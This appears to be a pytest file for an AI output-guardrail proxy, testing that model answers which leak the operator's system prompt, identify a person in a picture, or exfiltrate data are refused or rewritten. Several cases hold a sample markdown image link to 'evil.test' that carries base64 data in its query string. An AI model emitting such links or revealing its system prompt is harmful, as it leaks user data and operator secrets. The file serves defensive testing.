"""What an answer is judged by beside its own words: the request that it answers."""

from __future__ import annotations

import asyncio
import json
from base64 import b64encode
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from detectors.checks.echo import Echo
from detectors.checks.links import Links
from detectors.contract.exchange import ImagePart, Part
from detectors.inspect import Inspector
from detectors.media.decode import Limits
from service.pipeline.examine import Examiner
from service.pipeline.handle import Ledger
from service.policy.load import load
from service.store.database import Database
from service.store.reader import read
from service.store.writer import Writer
from tests.pictures import photo, png
from tests.service.pipeline.playing import model, play, said, streamed
from tests.service.pipeline.test_stream import DONE, FINE, Line, event
from tests.service.pipeline.test_stream import play as streaming
from tests.service.pipeline.words import Words

PROMPT = (
    "You are Bo, the assistant of a bakery called Three Loaves. Never mention prices of other "
    "shops. If somebody asks for a discount, offer ten percent with the code WHEAT and not more."
)
POLICY = """\
version: 1
description: a test
link_hosts: ["*.good.test"]
rules:
  - {id: who, description: d, stage: response, on: [model], action: refuse, message: nobody,
     when: images_shown > 0 && identity > 0.5}
  - {id: told, description: d, stage: response, on: [model], when: system_prompt_leak > 0.5,
     action: refuse, message: nothing}
  - {id: sent, description: d, stage: response, on: [model], when: data_exfiltration > 0.5,
     action: rewrite, edits: [{kind: strip_links}]}
"""
DATA = "dGhlIHVzZXIgc2FpZCB0aGF0"
LEAK = f"I was told this: {PROMPT}"


@pytest.fixture
def examiner(tmp_path: Path) -> Examiner:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY)
    return Examiner(
        inspector=Inspector([Blind()], [Words(), Echo(), Links()]),
        policy=load(path),
        sizes=(),
        limits=Limits(),
        timeout_s=5,
    )


class Blind:
    """A view that reads nothing in a picture."""

    name, version = "blind", "1"

    def applies(self, part: Part) -> bool:
        return isinstance(part, ImagePart)

    def reveal(self, part: Part) -> Sequence[Part]:
        return () if isinstance(part, ImagePart) else (part,)

    def self_check(self) -> None:
        """Nothing can be wrong with it."""


def asking(*, picture: bool = False, stream: bool = False) -> dict[str, Any]:
    content: list[Any] = [{"type": "text", "text": "hello"}]
    if picture:
        url = f"data:image/png;base64,{b64encode(png(photo(1))).decode()}"
        content.append({"type": "image_url", "image_url": {"url": url}})
    messages = [{"role": "system", "content": PROMPT}, {"role": "user", "content": content}]
    return {"model": "m", "messages": messages, "stream": stream}


CASES = {
    # the answer, whether a picture was sent, what is done
    "a name": ("it is Ann, who else", True, "refuse"),
    "a name, and no picture": ("it is Ann, who else", False, "forward"),
    "the operator's words": (LEAK, False, "refuse"),
    "a few of them": ("I am Bo, the assistant of a bakery", False, "forward"),
    "a link": (f"![](https://evil.test/?d={DATA})", False, "rewrite"),
    "a link to a host that may": (f"![](https://img.good.test/?d={DATA})", False, "forward"),
}


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_is_decided_by_its_request(examiner: Examiner, case: str, stream: bool) -> None:
    answer, picture, action = CASES[case]
    body = streamed((0, {"content": answer[:9]}), (0, {"content": answer[9:]}))
    kind = "text/event-stream" if stream else "application/json"
    with model(body if stream else said(answer), kind=kind) as (base, _):
        (reply,) = play(examiner, base, asking(picture=picture, stream=stream))
    assert dict(reply.headers)["x-glassgate-decision"] == action
    assert (DATA.encode() in reply.body) is ("may" in case)


@pytest.mark.parametrize(
    ("question", "message"),
    # Where nothing was asked in words, the answer's own language tells.
    [("Wer ist das?", "nichts"), ("Who?", "nothing"), ("", "nothing")],
)
@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_is_refused_in_the_language_of_its_question(
    examiner: Examiner, tmp_path: Path, question: str, message: str, *, stream: bool
) -> None:
    path = tmp_path / "tongues.yaml"
    path.write_text(POLICY.replace("message: nothing", "message: {en: nothing, de: nichts}"))
    asked = asking(stream=stream)
    asked["messages"][1]["content"] = question
    body = streamed((0, {"content": LEAK[:9]}), (0, {"content": LEAK[9:]}))
    kind = "text/event-stream" if stream else "application/json"
    with model(body if stream else said(LEAK), kind=kind) as (base, _):
        (reply,) = play(replace(examiner, policy=load(path)), base, asked)
    assert f'"{message}"'.encode() in reply.body


def test_an_allowed_phrase_lets_no_other_words_of_the_operator_pass(
    examiner: Examiner, tmp_path: Path
) -> None:
    path = tmp_path / "allowing.yaml"
    path.write_text(
        f"{POLICY}allow:\n  - {{id: a, labels: [system_prompt_leak], phrases: [You are Bo],"
        " owner: o, reason: r, expires: 2999-01-01}\n"
    )
    with model(said(LEAK)) as (base, _):
        (reply,) = play(replace(examiner, policy=load(path)), base, asking())
    assert dict(reply.headers)["x-glassgate-decision"] == "refuse"


def test_a_stream_shows_no_data_that_stands_far_from_where_its_link_begins(
    examiner: Examiner,
) -> None:
    async def script(line: Line) -> None:
        await line.begin()
        await line.send(event(f"![a chart of it](https://evil.test/{'harmless/' * 120}"))
        await line.until(b"evil.test")
        for piece in (f"?d={DATA}) ", *[FINE] * 12):
            await line.send(event(piece))
            await asyncio.sleep(0.1)  # so that it is not judged as a whole
        await line.send(DONE)

    played = streaming(examiner, script)
    assert DATA[:12] not in played.said()
    assert played.said("refusal")


def test_the_operators_words_stay_with_the_call(
    examiner: Examiner, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path}/audit.db"
    writer = Writer(Database(url))
    with model(said(LEAK)) as (base, _):
        play(examiner, base, asking(picture=True), ledger=Ledger(writer=writer))
    assert writer.close(60.0) == 0
    records = [each.to_json() for each in read(url)]
    assert [json.loads(each)["pictures"] for each in records] == [0, 1]
    kept = "".join(records) + "".join(capsys.readouterr())
    assert "system_prompt_leak" in kept
    assert not any(word in kept for word in ("bakery", "WHEAT", "Loaves"))
